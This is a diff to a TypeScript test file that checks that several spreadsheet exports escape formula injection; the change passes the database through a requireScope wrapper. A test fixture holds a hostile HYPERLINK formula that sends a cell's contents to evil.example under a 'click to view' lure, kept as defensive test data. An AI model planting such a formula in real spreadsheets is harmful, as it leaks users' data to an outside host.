@@ -21,6 +21,7 @@ import { exportListWorkbook, parseListFilter } from '../../src/lib/server/servic
 import { parseExpertWorkbook, renderExpertWorkbook } from '../../src/lib/server/import/experts-xlsx';
 import { parseIntakeWorkbook } from '../../src/lib/server/import/xlsx';
 import { loadExperts } from '../../src/lib/server/queries/bundle';
+import { requireScope } from '../../src/lib/server/scope';
 
 const HOSTILE = {
 	hyperlink: '=HYPERLINK("http://evil.example/?q="&A1,"点击查看")',
@@ -87,7 +88,7 @@ describe('formula escaping in every export', () => {
 	const { db, expertId, appId } = hostileDb();
 
 	it('the results workbook (score summary, proposed list, workload, audit log)', async () => {
-		const { texts, formulas } = await cellsOf(await renderResultsWorkbook(buildWorkbookData(db)));
+		const { texts, formulas } = await cellsOf(await renderResultsWorkbook(buildWorkbookData(requireScope(db))));
 		expectEscaped(texts, formulas, [HOSTILE.hyperlink, HOSTILE.fullMinus, HOSTILE.fullAt]);
 	});
 
@@ -106,14 +107,14 @@ describe('formula escaping in every export', () => {
 	});
 
 	it("the expert's offline score workbook", async () => {
-		const { texts, formulas } = await cellsOf((await buildOfflineWorkbook(db, expertId)).buffer);
+		const { texts, formulas } = await cellsOf((await buildOfflineWorkbook(requireScope(db), expertId)).buffer);
 		expectEscaped(texts, formulas, [HOSTILE.hyperlink, HOSTILE.fullPlus, HOSTILE.fullMinus]);
 	});
 
 	it('the intake list export, which re-imports to exactly the planted text', async () => {
 		const filter = parseListFilter(new URLSearchParams());
 		if ('error' in filter) throw new Error(filter.error);
-		const out = await exportListWorkbook(db, filter.filter, SYSTEM_ACTOR);
+		const out = await exportListWorkbook(requireScope(db), filter.filter, SYSTEM_ACTOR);
 		const { texts, formulas } = await cellsOf(out.body);
 		expectEscaped(texts, formulas, [HOSTILE.hyperlink, HOSTILE.fullPlus, HOSTILE.plus, HOSTILE.at, HOSTILE.fullEquals, HOSTILE.minus, HOSTILE.tab]);
 		const back = await parseIntakeWorkbook(out.body);
